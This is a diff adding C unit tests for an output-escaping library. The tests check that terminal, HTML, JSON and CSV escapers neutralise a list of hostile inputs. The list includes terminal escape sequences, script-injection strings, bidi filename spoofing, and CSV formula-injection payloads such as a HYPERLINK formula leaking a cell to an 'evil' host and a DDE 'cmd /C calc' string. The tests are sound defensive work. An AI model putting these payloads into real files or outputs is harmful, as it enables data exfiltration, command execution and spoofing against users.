@@ -10,6 +10,7 @@
 #include <stdint.h>
 #include <stdlib.h>
 #include <string.h>
+#include <unistd.h>
 
 #include "report/escape.h"
 #include "shellsift.h"
@@ -460,6 +461,200 @@ static void test_hidden(void) {
   CHECK(!cp_hidden('a') && !cp_hidden(0xE9) && !cp_hidden(0x1F600) && !cp_hidden(0xFFFD));
 }
 
+/* ---- independent parsers: Python's json (RFC 8259) and csv modules ---- */
+
+/* The inputs the Python checks see: every byte alone and between letters,
+ * every C1 control as UTF-8, the bidi and invisible characters, and the
+ * injection payloads of each format. */
+static size_t hostile_inputs(strbuf *in, size_t max) {
+#define P(lit) {lit, sizeof(lit) - 1}
+  static const struct {
+    const char *s;
+    size_t len;
+  } payloads[] = {
+      P("\x1b]0;owned\x07"),
+      P("\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\"),
+      P("\x1b[2J\x1b[H"),
+      P("\x1bP+q\x1b\\"),
+      P("</script><script>alert(1)</script>"),
+      P("\"><img src=x onerror=alert(1)>"),
+      P("<!--"),
+      P("]]>"),
+      P("=HYPERLINK(\"http://evil/?\"&A1,\"Error: click\")"),
+      P("+cmd|' /C calc'!A0"),
+      P("-2+3"),
+      P("@SUM(A1)"),
+      P("\tx"),
+      P("\rx"),
+      P("invoice\xe2\x80\xaegpj.php"),
+      P("\xe2\x81\xa6rtl\xe2\x81\xa9"),
+      P("a\xef\xb8\x8f" "b"),
+      P("\xf3\xa0\x84\x80"),
+      P("\xc0\xaf\xe0\x80\xaf"),
+      P("\xed\xa0\x80\xed\xb0\x80"),
+      P("\xf4\x90\x80\x80"),
+      P("x\x00y"),
+      P("\xe2\x80\xa8\xe2\x80\xa9"),
+      P("\\u0000\\\""),
+  };
+#undef P
+  size_t n = 0;
+  for (int b = 0; b < 256 && n < max; b++, n++) {
+    unsigned char one[3] = {'a', (unsigned char)b, 'z'};
+    sb_add(&in[n], one + 1, 1);
+    sb_add(&in[++n], one, 3);
+  }
+  for (uint32_t cp = 0x80; cp <= 0x9F && n < max; cp++) put_utf8(&in[n++], cp);
+  for (uint32_t cp = 0x2066; cp <= 0x2069 && n < max; cp++) put_utf8(&in[n++], cp);
+  for (size_t i = 0; i < sizeof payloads / sizeof payloads[0] && n < max; i++)
+    sb_add(&in[n++], payloads[i].s, payloads[i].len);
+  return n;
+}
+
+/* Runs python3 on a script with the file as argument; 1 if it printed "ok". */
+static int python_says_ok(const char *script, const char *file) {
+  char cmd[512], py[64];
+  snprintf(py, sizeof py, "%s.py", file);
+  FILE *f = fopen(py, "w");
+  if (!f || fputs(script, f) < 0 || fclose(f) != 0) return 0;
+  snprintf(cmd, sizeof cmd, "python3 %s %s 2>&1", py, file);
+  FILE *p = popen(cmd, "r");
+  char line[512] = "";
+  int ok = 0;
+  while (p && fgets(line, sizeof line, p)) {
+    if (strcmp(line, "ok\n") == 0) ok = 1;
+    else fprintf(stderr, "python: %s", line);
+  }
+  if (!p || pclose(p) != 0) ok = 0;
+  unlink(py);
+  return ok;
+}
+
+static void test_json_python(void) {
+  static const char script[] =
+      "import base64, json, sys\n"
+      "n = 0\n"
+      "for line in open(sys.argv[1], encoding=\"utf-8\", errors=\"strict\"):\n"
+      "    rec = json.loads(line, parse_constant=lambda c: sys.exit(\"constant \" + c))\n"
+      "    want = base64.b64decode(rec[\"want\"])\n"
+      "    got = rec[\"s\"].encode(\"utf-8\", errors=\"strict\")  # a lone surrogate raises\n"
+      "    assert got == want, (got, want)\n"
+      "    n += 1\n"
+      "assert n > 500, n\n"
+      "print(\"ok\")\n";
+  strbuf in[700] = {0}, out = STRBUF_INIT;
+  size_t n = hostile_inputs(in, 700);
+  for (size_t i = 0; i < n; i++) {
+    strbuf want = STRBUF_INIT;
+    ref_replace(&want, (const unsigned char *)in[i].data, in[i].len);
+    sb_adds(&out, "{\"want\":\"");
+    esc_base64(&out, want.data ? want.data : "", want.len);
+    sb_adds(&out, "\",\"s\":\"");
+    esc_json(&out, in[i].data ? in[i].data : "", in[i].len);
+    sb_adds(&out, "\"}\n");
+    sb_free(&want);
+  }
+  char path[] = "/tmp/ss-esc-json-XXXXXX";
+  int fd = mkstemp(path);
+  CHECK(fd >= 0 && write(fd, out.data, out.len) == (ssize_t)out.len);
+  close(fd);
+  CHECK(python_says_ok(script, path));
+  unlink(path);
+  for (size_t i = 0; i < n; i++) sb_free(&in[i]);
+  sb_free(&out);
+}
+
+/* Each input as a CSV record of two fields (the escaped input, its index):
+ * Python's csv module must read exactly one record per input, no field a
+ * formula, the index intact, and text without controls exactly as given. */
+static void test_csv_python(void) {
+  static const char script[] =
+      "import base64, csv, sys\n"
+      "rows = list(csv.reader(open(sys.argv[1], newline=\"\", encoding=\"utf-8\")))\n"
+      "exp = [l.split(\" \") for l in open(sys.argv[1] + \".want\")]\n"
+      "assert len(rows) == len(exp), (len(rows), len(exp))\n"
+      "for i, (r, e) in enumerate(zip(rows, exp)):\n"
+      "    assert len(r) == 2 and r[1] == str(i), r\n"
+      "    assert r[0][:1] not in (\"=\", \"+\", \"-\", \"@\", \"\\t\", \"\\r\"), r\n"
+      "    assert not any(ord(c) < 32 and c != \"\\t\" or 0x7f <= ord(c) <= 0x9f for c in r[0]), r\n"
+      "    if e[0] == \"plain\":\n"
+      "        want = base64.b64decode(e[1]).decode()\n"
+      "        assert r[0] == want or r[0] == \"\\x27\" + want, (r[0], want)\n"
+      "print(\"ok\")\n";
+  strbuf in[700] = {0}, out = STRBUF_INIT, exp = STRBUF_INIT;
+  size_t n = hostile_inputs(in, 700);
+  for (size_t i = 0; i < n; i++) {
+    const unsigned char *s = (const unsigned char *)(in[i].data ? in[i].data : "");
+    int plain = ref_valid(s, in[i].len);
+    uint32_t cp;
+    for (size_t k = 0, m; plain && k < in[i].len; k += m) {
+      m = ref_utf8(s + k, in[i].len - k, &cp);
+      plain = cp == '\t' || (!forbidden_cp(cp) && !cp_hidden(cp));
+    }
+    esc_csv(&out, s, in[i].len);
+    sb_addf(&out, ",\"%zu\"\r\n", i);
+    sb_adds(&exp, plain ? "plain " : "other ");
+    esc_base64(&exp, s, in[i].len);
+    sb_addc(&exp, '\n');
+  }
+  char path[] = "/tmp/ss-esc-csv-XXXXXX", want[64];
+  int fd = mkstemp(path);
+  CHECK(fd >= 0 && write(fd, out.data, out.len) == (ssize_t)out.len);
+  close(fd);
+  snprintf(want, sizeof want, "%s.want", path);
+  FILE *f = fopen(want, "w");
+  CHECK(f && fwrite(exp.data, 1, exp.len, f) == exp.len);
+  if (f) fclose(f);
+  CHECK(python_says_ok(script, path));
+  unlink(path);
+  unlink(want);
+  for (size_t i = 0; i < n; i++) sb_free(&in[i]);
+  sb_free(&out);
+  sb_free(&exp);
+}
+
+/* Unicode's Default_Ignorable_Code_Point set (DerivedCoreProperties.txt,
+ * Unicode 15), written out here rather than taken from escape.c: each
+ * renders as nothing, so every output must show it. */
+static void test_default_ignorable(void) {
+  static const uint32_t ranges[][2] = {
+      {0x00AD, 0x00AD}, {0x034F, 0x034F}, {0x061C, 0x061C}, {0x115F, 0x1160}, {0x17B4, 0x17B5},
+      {0x180B, 0x180F}, {0x200B, 0x200F}, {0x202A, 0x202E}, {0x2060, 0x206F}, {0x3164, 0x3164},
+      {0xFE00, 0xFE0F}, {0xFEFF, 0xFEFF}, {0xFFA0, 0xFFA0}, {0xFFF0, 0xFFF8}, {0x1BCA0, 0x1BCA3},
+      {0x1D173, 0x1D17A}, {0xE0000, 0xE0FFF},
+  };
+  int bad = 0;
+  for (size_t r = 0; r < sizeof ranges / sizeof ranges[0]; r++)
+    for (uint32_t cp = ranges[r][0]; cp <= ranges[r][1] && bad < 5; cp++) {
+      strbuf in = STRBUF_INIT, t = STRBUF_INIT, want = STRBUF_INIT;
+      put_utf8(&in, cp);
+      esc_term(&t, in.data, in.len);
+      sb_addf(&want, "\\u{%04X}", (unsigned)cp);
+      if (!cp_hidden(cp) || strcmp(t.data, want.data) != 0) {
+        fprintf(stderr, "U+%04X shown as \"%s\"\n", (unsigned)cp, t.data);
+        bad++;
+      }
+      sb_free(&in), sb_free(&t), sb_free(&want);
+    }
+  CHECK(bad == 0);
+  /* a variation selector is what made two names look alike (fixed) */
+  EXPECT(esc_term, "shell\xef\xb8\x8f.aspx", "shell\\u{FE0F}.aspx");
+  EXPECT(esc_json, "a\xf3\xa0\x84\x80", "a\\udb40\\udd00");
+}
+
+/* Every C1 control, as the two UTF-8 bytes a terminal would obey. */
+static void test_c1_as_utf8(void) {
+  for (uint32_t cp = 0x80; cp <= 0x9F; cp++) {
+    strbuf in = STRBUF_INIT, want = STRBUF_INIT;
+    put_utf8(&in, cp);
+    sb_addf(&want, "\\u{%04X}", (unsigned)cp);
+    char *t = escape_with(esc_term, in.data, in.len), *h = escape_with(esc_html, in.data, in.len);
+    CHECK_STREQ(t, want.data);
+    CHECK_STREQ(h, "\xEF\xBF\xBD");
+    free(t), free(h), sb_free(&in), sb_free(&want);
+  }
+}
+
 int main(void) {
   RUN(test_utf8_decode);
   RUN(test_every_byte);
@@ -472,5 +667,9 @@ int main(void) {
   RUN(test_html_exact);
   RUN(test_base64);
   RUN(test_hidden);
+  RUN(test_default_ignorable);
+  RUN(test_c1_as_utf8);
+  RUN(test_json_python);
+  RUN(test_csv_python);
   TEST_END();
 }
